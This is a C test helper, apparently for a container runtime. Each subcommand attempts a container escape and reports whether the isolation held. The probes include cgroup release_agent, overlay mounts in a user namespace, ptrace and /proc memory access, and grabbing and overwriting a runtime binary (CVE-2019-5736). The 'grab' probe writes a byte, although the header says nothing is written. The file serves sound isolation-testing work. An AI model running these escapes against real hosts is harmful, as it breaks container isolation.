// SPDX-License-Identifier: MIT
/*
 * attack: ways out of a container, a row of the table at the end each. It is put inside and says, in one line, what
 * became of it: "won" with status 0, or "refused: WHAT: REASON" with status 1. The tests judge. What is won is only a proof, such
 * as a descriptor open for writing; nothing is written, and nothing of the machine is changed.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/capability.h>
#include <linux/keyctl.h>
#include <linux/mount.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/statvfs.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

#ifndef SYS_clock_settime /* 32 bits: the call whose seconds have as many */
#define SYS_clock_settime SYS_clock_settime32
#endif

enum {
	FD_GUESSES = 1024,
	PIDS_AHEAD = 3,      /* of the newest */
	DEEPER_THAN_ANY = 64,
	HUNT_SECONDS = 60,   /* the tests end a hunt before; a forgotten one ends by itself */
};

static int won(void)
{
	puts("won");
	return 0;
}

static int refused(const char *what)
{
	printf("refused: %s: %s\n", what, strerror(errno));
	return 1;
}

static int outcome(long result, const char *what)
{
	return result < 0 ? refused(what) : won();
}

/* ---- files ---- */

/* A masked file reads as empty. */
static int read_at(int dirfd, const char *path)
{
	char byte;
	int fd = openat(dirfd, path, O_RDONLY | O_NONBLOCK | O_NOCTTY | O_CLOEXEC);
	ssize_t n = fd < 0 ? -1 : read(fd, &byte, 1);

	if (fd >= 0)
		close(fd);
	if (n == 0)
		errno = ENODATA;
	return n == 1 ? 0 : -1;
}

static int attack_read(char **argv)
{
	return outcome(read_at(AT_FDCWD, argv[0]), argv[0]);
}

static int attack_write(char **argv)
{
	return outcome(open(argv[0], O_WRONLY | O_NONBLOCK | O_NOCTTY), argv[0]);
}

static int attack_unmask(char **argv)
{
	if (umount2(argv[0], MNT_DETACH) < 0)
		return refused("umount");
	return attack_read(argv);
}

static int attack_remount(char **argv)
{
	struct mount_attr writable = {.attr_clr = MOUNT_ATTR_RDONLY};
	struct statvfs status;
	unsigned long others;

	if (statvfs(argv[0], &status) < 0)
		return refused("statvfs");
	others = status.f_flag & (MS_NOSUID | MS_NODEV | MS_NOEXEC | MS_NOATIME); /* a user namespace may not take these away */
	if (mount(NULL, argv[0], NULL, MS_REMOUNT | MS_BIND, NULL) < 0 && mount(NULL, argv[0], NULL, MS_REMOUNT | MS_BIND | others, NULL) < 0 &&
	    syscall(SYS_mount_setattr, AT_FDCWD, argv[0], 0, &writable, sizeof writable) < 0)
		return refused("remount");
	errno = EROFS;
	return outcome(statvfs(argv[0], &status) < 0 || (status.f_flag & ST_RDONLY) ? -1 : 0, argv[0]);
}

/* PATH b|c MAJOR MINOR */
static int attack_node(char **argv)
{
	int fd;

	if (mknod(argv[0], (argv[1][0] == 'b' ? S_IFBLK : S_IFCHR) | 0666, makedev(atoi(argv[2]), atoi(argv[3]))) < 0)
		return refused("mknod");
	fd = open(argv[0], O_RDONLY | O_NONBLOCK | O_NOCTTY);
	unlink(argv[0]);
	return outcome(fd, "open");
}

/* From each descriptor that was left open. */
static int attack_descriptors(char **argv)
{
	errno = EBADF;
	for (int fd = 3; fd < FD_GUESSES; fd++)
		if (read_at(fd, argv[0] + 1) == 0)
			return won();
	return refused("descriptors 3 and up");
}

/* Upwards out of a directory that is outside of our root. */
static int climb(const char *canary)
{
	for (int i = 0; i < DEEPER_THAN_ANY; i++)
		if (chdir("..") < 0)
			return -1;
	return read_at(AT_FDCWD, canary + 1);
}

static int attack_chroot(char **argv)
{
	int here = open("/", O_RDONLY | O_DIRECTORY);

	if (chroot("/bin") < 0)
		return refused("chroot");
	return outcome(fchdir(here) < 0 ? -1 : climb(argv[0]), argv[0]);
}

/* After MS_MOVE the old root is only covered: it shows when "/" is looked up again, which setns(2) does. */
static int attack_detach(char **argv)
{
	int ns = open("/proc/self/ns/mnt", O_RDONLY);

	if (ns < 0 || umount2("/", MNT_DETACH) < 0 || setns(ns, CLONE_NEWNS) < 0)
		return refused("umount, setns");
	return attack_read(argv);
}

struct handle {
	struct file_handle head;
	unsigned char bytes[MAX_HANDLE_SZ];
};

/* Prints the handle of PATH, for the next. */
static int handle_of(char **argv)
{
	struct handle handle = {.head.handle_bytes = MAX_HANDLE_SZ};
	int id;

	if (name_to_handle_at(AT_FDCWD, argv[0], &handle.head, &id, 0) < 0)
		return refused(argv[0]);
	printf("%d ", handle.head.handle_type);
	for (unsigned i = 0; i < handle.head.handle_bytes; i++)
		printf("%02x", handle.bytes[i]);
	return 0;
}

/* TYPE HEX: a file by its number, wherever in the file system of our root it lies. */
static int attack_handle(char **argv)
{
	struct handle handle = {.head = {.handle_type = atoi(argv[0]), .handle_bytes = (unsigned)strlen(argv[1]) / 2}};

	for (unsigned i = 0; i < handle.head.handle_bytes && i < MAX_HANDLE_SZ; i++)
		sscanf(argv[1] + 2 * i, "%2hhx", &handle.bytes[i]);
	return outcome(open_by_handle_at(open("/", O_RDONLY), &handle.head, O_RDONLY), "handle");
}

/* NAME: a hierarchy of that name and no controller, which is gone with its mount. CVE-2022-0492 */
static int attack_release_agent(char **argv)
{
	char options[64];

	mkdir("/tmp/hierarchy", 0755);
	snprintf(options, sizeof options, "none,name=%s", argv[0]);
	if (mount("cgroup", "/tmp/hierarchy", "cgroup", 0, options) < 0)
		return refused("mount");
	return outcome(open("/tmp/hierarchy/release_agent", O_WRONLY), "release_agent");
}

/* Mounts on PATH, and stays until standard input ends. */
static int attack_mount(char **argv)
{
	char byte;

	if (mount("attack", argv[0], "tmpfs", 0, NULL) < 0)
		return refused("mount");
	won();
	fflush(stdout);
	return read(STDIN_FILENO, &byte, 1) < 0;
}

/* ---- user namespaces ---- */

static int idle(void *unused)
{
	(void)unused;
	return 0;
}

/* unshare|clone|clone3 */
static int attack_userns(char **argv)
{
	static char stack[16384];
	struct { uint64_t flags, pidfd, child, parent, signal, rest[6]; } arguments = {.flags = CLONE_NEWUSER, .signal = SIGCHLD};
	long pid;

	if (strcmp(argv[0], "unshare") == 0)
		return outcome(unshare(CLONE_NEWUSER), argv[0]);
	if (strcmp(argv[0], "clone") == 0)
		return outcome(clone(idle, stack + sizeof stack, CLONE_NEWUSER | SIGCHLD, NULL), argv[0]);
	pid = syscall(SYS_clone3, &arguments, sizeof arguments);
	if (pid == 0)
		_exit(0);
	return outcome(pid, argv[0]);
}

static int write_to(const char *path, const char *text)
{
	int fd = open(path, O_WRONLY | O_CLOEXEC);

	return fd < 0 || write(fd, text, strlen(text)) < 0 ? -1 : close(fd);
}

/* Mounts of one's own through a user namespace: tmpfs, or an overlay over what root owns, CVE-2021-3493 and CVE-2023-0386. */
static int attack_userns_mount(char **argv)
{
	const char *data = strcmp(argv[0], "overlay") == 0 ? "lowerdir=/bin,upperdir=/tmp/u/upper,workdir=/tmp/u/work,userxattr" : NULL;

	char uid[32], gid[32];

	snprintf(uid, sizeof uid, "0 %u 1", (unsigned)getuid());
	snprintf(gid, sizeof gid, "0 %u 1", (unsigned)getgid());
	mkdir("/tmp/u", 0777);
	if (unshare(CLONE_NEWUSER | CLONE_NEWNS) < 0 || write_to("/proc/self/setgroups", "deny") < 0 ||
	    write_to("/proc/self/uid_map", uid) < 0 || write_to("/proc/self/gid_map", gid) < 0)
		return refused("unshare");
	if (mount("tmpfs", "/tmp/u", "tmpfs", 0, NULL) < 0)
		return refused("tmpfs");
	mkdir("/tmp/u/upper", 0777);
	mkdir("/tmp/u/work", 0777);
	return outcome(data ? mount("overlay", "/tmp/u", "overlay", 0, data) : 0, argv[0]);
}

/* ---- the kernel ---- */

/* Arguments that a kernel which is asked rejects. */
static const struct {
	const char *name;
	long number, arguments[5];
} calls[] = {
	{"acct", SYS_acct, {1}},
	{"add_key", SYS_add_key, {1, 1}},
	{"bpf", SYS_bpf, {-1}},
	{"clock_settime", SYS_clock_settime, {-1, 1}},
	{"clone3", SYS_clone3, {0, 0}},
	{"delete_module", SYS_delete_module, {1}},
	{"finit_module", SYS_finit_module, {-1, 1}},
	{"fsconfig", SYS_fsconfig, {-1}},
	{"fsmount", SYS_fsmount, {-1}},
	{"fsopen", SYS_fsopen, {1}},
	{"fspick", SYS_fspick, {-1, 1}},
	{"init_module", SYS_init_module, {1, 1, 1}},
	{"io_uring_enter", SYS_io_uring_enter, {-1}},
	{"io_uring_register", SYS_io_uring_register, {-1}},
	{"io_uring_setup", SYS_io_uring_setup, {1, 1}},
	{"kcmp", SYS_kcmp, {-1, -1}},
	{"kexec_load", SYS_kexec_load, {0, 1 << 20}},
	{"keyctl", SYS_keyctl, {-1}},
	{"mbind", SYS_mbind, {0, 0, -1}},
	{"migrate_pages", SYS_migrate_pages, {0, 1 << 30, 1, 1}},
	{"mount", SYS_mount, {1, 1, 1}},
	{"mount_setattr", SYS_mount_setattr, {-1, 1}},
	{"move_mount", SYS_move_mount, {-1, 1, -1, 1}},
	{"move_pages", SYS_move_pages, {0, 1, 0, 0, 0}},
	{"open_by_handle_at", SYS_open_by_handle_at, {-1, 1}},
	{"open_tree", SYS_open_tree, {-1, 1, -1}},
	{"perf_event_open", SYS_perf_event_open, {1}},
	{"personality", SYS_personality, {0x400000 /* READ_IMPLIES_EXEC */}},
	{"pivot_root", SYS_pivot_root, {1, 1}},
	{"process_vm_readv", SYS_process_vm_readv, {1, 1, 1, 1, 1}},
	{"process_vm_writev", SYS_process_vm_writev, {1, 1, 1, 1, 1}},
	{"quotactl", SYS_quotactl, {-1}},
	{"reboot", SYS_reboot, {0}}, /* the wrong magic number */
	{"request_key", SYS_request_key, {1}},
	{"set_mempolicy", SYS_set_mempolicy, {-1}},
	{"setns", SYS_setns, {-1}},
	{"swapoff", SYS_swapoff, {1}},
	{"swapon", SYS_swapon, {1}},
	{"syslog", SYS_syslog, {-1}},
	{"umount2", SYS_umount2, {1}},
	{"userfaultfd", SYS_userfaultfd, {-1}},
	{"vsock", SYS_socket, {40 /* AF_VSOCK */, SOCK_STREAM}},
	{"crypto", SYS_socket, {38 /* AF_ALG */, SOCK_SEQPACKET}},
#ifdef __x86_64__
	{"ioperm", SYS_ioperm, {0, -1}},
	{"iopl", SYS_iopl, {4}},
	{"modify_ldt", SYS_modify_ldt, {0, 0, 0}},
	{"settimeofday", SYS_settimeofday, {1}},
	{"sysfs", SYS_sysfs, {0}},
	{"ustat", SYS_ustat, {0}},
	{"x32", 0x40000000 | SYS_unshare, {CLONE_NEWUSER}},
	{"no number", -1, {0}},
#endif
};

/* A call is won if the kernel looked at its arguments. */
static int attack_call(char **argv)
{
	for (size_t i = 0; i < sizeof calls / sizeof calls[0]; i++) {
		const long *a = calls[i].arguments;

		if (strcmp(argv[0], calls[i].name) != 0)
			continue;
		if (syscall(calls[i].number, a[0], a[1], a[2], a[3], a[4]) >= 0 || (errno != EPERM && errno != ENOSYS))
			return won();
		return refused(argv[0]);
	}
	return 2;
}

/* unshare(CLONE_NEWUSER) by the door of 32-bit programs, where it has the number 310. */
static int attack_call32(char **argv)
{
#ifdef __x86_64__
	long result;

	(void)argv;
	__asm__ volatile("int $0x80" : "=a"(result) : "a"(310L), "b"((long)CLONE_NEWUSER) : "memory", "r8", "r9", "r10", "r11");
	errno = (int)-result;
	return outcome(result, "int 0x80");
#else
	(void)argv;
	errno = ENOSYS;
	return refused("int 0x80");
#endif
}

/* REQUEST HIGH: an ioctl(2) of the terminal whose request has more bits than the kernel looks at. Won if it is looked at. */
static int attack_terminal(char **argv)
{
	unsigned long request = strcmp(argv[0], "TIOCSTI") == 0 ? TIOCSTI : TIOCLINUX;
	char byte = strcmp(argv[0], "TIOCSTI") == 0 ? ' ' : 6; /* 6 asks for the shift state */

	if (syscall(SYS_ioctl, STDIN_FILENO, (unsigned long)(request | strtoull(argv[1], NULL, 0) << 32), &byte) >= 0 || errno == ENOTTY)
		return won();
	return refused(argv[0]);
}

/* ---- what belongs to somebody else ---- */

static int attack_signal(char **argv)
{
	return outcome(kill(atoi(argv[0]), 0), argv[0]);
}

static int attack_shm(char **argv)
{
	return outcome(shmget(atoi(argv[0]), 0, 0), "segment");
}

static int attack_socket(char **argv)
{
	struct sockaddr_un address = {.sun_family = AF_UNIX};
	size_t length = strlen(argv[0]);

	memcpy(address.sun_path + 1, argv[0], length); /* the first byte is 0: abstract */
	return outcome(connect(socket(AF_UNIX, SOCK_STREAM, 0), (void *)&address, (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + length)),
	               "connect");
}

static int attack_key(char **argv)
{
	return outcome(syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_SESSION_KEYRING, "user", argv[0], 0), "key");
}

/* NAME PROGRAM [ARG]...: the program has a session keyring with a key of that name. */
static int with_key(char **argv)
{
	syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, NULL);
	if (syscall(SYS_add_key, "user", argv[0], "x", 1, KEY_SPEC_SESSION_KEYRING) < 0)
		return refused("add_key");
	execv(argv[1], argv + 1);
	return refused(argv[1]);
}

/* A file may be shut to a group and open to others: who can leave the group can read it. CVE-2014-8989 */
static int attack_groups(char **argv)
{
	gid_t none;

	if (syscall(SYS_setgroups, 0, &none) < 0)
		printf("setgroups: %s\n", strerror(errno));
	return attack_read(argv);
}

static int read_capabilities(struct __user_cap_header_struct *header, struct __user_cap_data_struct data[2])
{
	*header = (struct __user_cap_header_struct){.version = _LINUX_CAPABILITY_VERSION_3};
	return (int)syscall(SYS_capget, header, data);
}

/* Capabilities that an exec would give back: inheritable and ambient ones. CVE-2022-24769 */
static int attack_capabilities(char **argv)
{
	struct __user_cap_header_struct header;
	struct __user_cap_data_struct data[2];

	(void)argv;
	errno = ENODATA;
	if (read_capabilities(&header, data) < 0)
		return refused("capget");
	if (data[0].inheritable || data[1].inheritable || prctl(PR_CAP_AMBIENT, PR_CAP_AMBIENT_IS_SET, CAP_CHOWN, 0, 0) == 1)
		return won();
	return refused("inheritable and ambient");
}

/* PROGRAM [ARG]...: the program has an inheritable and ambient CAP_CHOWN. */
static int with_capability(char **argv)
{
	struct __user_cap_header_struct header;
	struct __user_cap_data_struct data[2];

	if (read_capabilities(&header, data) < 0)
		return refused("capget");
	data[0].inheritable |= 1U << CAP_CHOWN;
	if (syscall(SYS_capset, &header, data) < 0 || prctl(PR_CAP_AMBIENT, PR_CAP_AMBIENT_RAISE, CAP_CHOWN, 0, 0) < 0)
		return refused("capset");
	execv(argv[0], argv);
	return refused(argv[0]);
}

/* PROGRAM [ARG]...: nothing that it starts can have CAP_SYS_PTRACE, so with all others it has no less than any other process. */
static int without_ptrace(char **argv)
{
	if (prctl(PR_CAPBSET_DROP, CAP_SYS_PTRACE, 0, 0, 0) < 0)
		return refused("capability");
	execv(argv[0], argv);
	return refused(argv[0]);
}

/* ---- other processes' memory and descriptors ---- */

static int by_file(int pid, const char *name)
{
	char path[64];

	snprintf(path, sizeof path, "/proc/%d/%s", pid, name);
	return read_at(AT_FDCWD, path) == 0 || errno == EIO ? 0 : -1; /* address 0 of a memory that may be read */
}

static int by_ptrace(int pid)
{
	if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) < 0)
		return -1;
	ptrace(PTRACE_INTERRUPT, pid, NULL, NULL);
	waitpid(pid, NULL, __WALL);
	return (int)ptrace(PTRACE_DETACH, pid, NULL, NULL);
}

static int by_vm(int pid)
{
	struct iovec here = {.iov_base = &pid, .iov_len = sizeof pid}, there = {.iov_base = NULL, .iov_len = sizeof pid};

	return process_vm_readv(pid, &here, 1, &there, 1, 0) >= 0 || errno == EFAULT ? 0 : -1;
}

static int by_descriptor(int pid)
{
	return (int)syscall(SYS_pidfd_getfd, syscall(SYS_pidfd_open, pid, 0), 0, 0);
}

static int by_exe(int pid)
{
	char path[64];

	snprintf(path, sizeof path, "/proc/%d/exe", pid);
	return open(path, O_RDONLY);
}

static int by_environment(int pid)
{
	return by_file(pid, "environ");
}

static int by_memory(int pid)
{
	return by_file(pid, "mem");
}

static const struct {
	const char *name;
	int (*reach)(int pid);
} doors[] = {
	{"exe", by_exe}, {"ptrace", by_ptrace}, {"vm", by_vm}, {"mem", by_memory}, {"environ", by_environment}, {"pidfd_getfd", by_descriptor},
};

/* DOOR PID */
static int attack_process(char **argv)
{
	for (size_t i = 0; i < sizeof doors / sizeof doors[0]; i++)
		if (strcmp(argv[0], doors[i].name) == 0)
			return outcome(doors[i].reach(atoi(argv[1])), argv[0]);
	return 2;
}

/* True if pid runs nsinit: a program after its exec is nobody's secret. */
static int is_nsinit(int pid)
{
	char path[64], link[256] = "";

	snprintf(path, sizeof path, "/proc/%d/exe", pid);
	return readlink(path, link, sizeof link - 1) > 0 && strstr(link, "nsinit") != NULL;
}

/* The newest pid of our namespace: who comes next has it or one of the next. */
static int newest_pid(void)
{
	FILE *file = fopen("/proc/loadavg", "r");
	int pid = 0;

	if (file) {
		if (fscanf(file, "%*s %*s %*s %*s %d", &pid) != 1)
			pid = 0;
		fclose(file);
	}
	return pid;
}

/* Tries every door to whatever process comes, until one opens while it is nsinit. */
static int attack_hunt(char **argv)
{
	time_t end = time(NULL) + HUNT_SECONDS;

	(void)argv;
	puts("ready");
	fflush(stdout);
	while (time(NULL) < end)
		for (int pid = newest_pid(), last = pid + PIDS_AHEAD; pid < last; pid++) {
			for (size_t i = 0; pid != getpid() && i < sizeof doors / sizeof doors[0]; i++) {
				int result = doors[i].reach(pid);

				if (result >= 0 && is_nsinit(pid))
					return won();
				if (result > STDERR_FILENO)
					close(result);
			}
		}
	errno = ETIMEDOUT;
	return refused("hunt");
}

/* Opens the file of the next process that runs one with name in it. -1 when none comes. */
static int hold(const char *name, time_t end)
{
	while (time(NULL) < end)
		for (int pid = newest_pid(), last = pid + PIDS_AHEAD; pid < last; pid++) {
			char path[64], link[256] = "";
			int fd;

			snprintf(path, sizeof path, "/proc/%d/exe", pid);
			if (readlink(path, link, sizeof link - 1) > 0 && strstr(link, name) && (fd = open(path, O_RDONLY)) >= 0)
				return fd;
		}
	return -1;
}

/* NAME: holds the file of a process that runs NAME until it can be opened for writing, and changes a byte. CVE-2019-5736 */
static int attack_grab(char **argv)
{
	time_t end = time(NULL) + HUNT_SECONDS;
	char path[64];
	int held, fd = -1;

	puts("ready");
	fflush(stdout);
	held = hold(argv[0], end);
	if (held < 0)
		return refused("hold");
	puts("held");
	fflush(stdout);
	snprintf(path, sizeof path, "/proc/self/fd/%d", held);
	while (fd < 0 && time(NULL) < end)
		fd = open(path, O_WRONLY);
	return outcome(fd < 0 ? -1 : pwrite(fd, "!", 1, 0), "write");
}

/* PID PROGRAM: what a joiner does that takes no care but for its capabilities, which would keep it from those inside. */
static int enter(char **argv)
{
	int fd = (int)syscall(SYS_pidfd_open, atoi(argv[0]), 0);
	pid_t pid;

	if (fd < 0 || setns(fd, CLONE_NEWNS | CLONE_NEWPID) < 0)
		return refused("setns");
	pid = fork();
	if (pid == 0) {
		for (unsigned long capability = 0; capability < 64; capability++)
			prctl(PR_CAPBSET_DROP, capability, 0, 0, 0);
		execv(argv[1], argv + 1);
		_exit(127);
	}
	return waitpid(pid, NULL, 0) < 0;
}

static const struct {
	const char *name;
	int arguments;
	int (*run)(char **argv);
} attacks[] = {
	{"call", 1, attack_call},
	{"call32", 0, attack_call32},
	{"capabilities", 0, attack_capabilities},
	{"chroot", 1, attack_chroot},
	{"descriptors", 1, attack_descriptors},
	{"detach", 1, attack_detach},
	{"grab", 1, attack_grab},
	{"groups", 1, attack_groups},
	{"handle", 2, attack_handle},
	{"hunt", 0, attack_hunt},
	{"key", 1, attack_key},
	{"mount", 1, attack_mount},
	{"node", 4, attack_node},
	{"process", 2, attack_process},
	{"read", 1, attack_read},
	{"release_agent", 1, attack_release_agent},
	{"remount", 1, attack_remount},
	{"shm", 1, attack_shm},
	{"signal", 1, attack_signal},
	{"socket", 1, attack_socket},
	{"terminal", 2, attack_terminal},
	{"unmask", 1, attack_unmask},
	{"userns", 1, attack_userns},
	{"userns-mount", 1, attack_userns_mount},
	{"write", 1, attack_write},
	/* not attacks, but what one or its control needs */
	{"enter", 2, enter},
	{"handle-of", 1, handle_of},
	{"with-capability", 1, with_capability},
	{"with-key", 2, with_key},
	{"without-ptrace", 1, without_ptrace},
};

int main(int argc, char **argv)
{
	for (size_t i = 0; argc > 1 && i < sizeof attacks / sizeof attacks[0]; i++)
		if (strcmp(argv[1], attacks[i].name) == 0 && argc - 2 >= attacks[i].arguments)
			return attacks[i].run(argv + 2);
	fprintf(stderr, "attack: no such attack, or too few arguments\n");
	return 2;
}
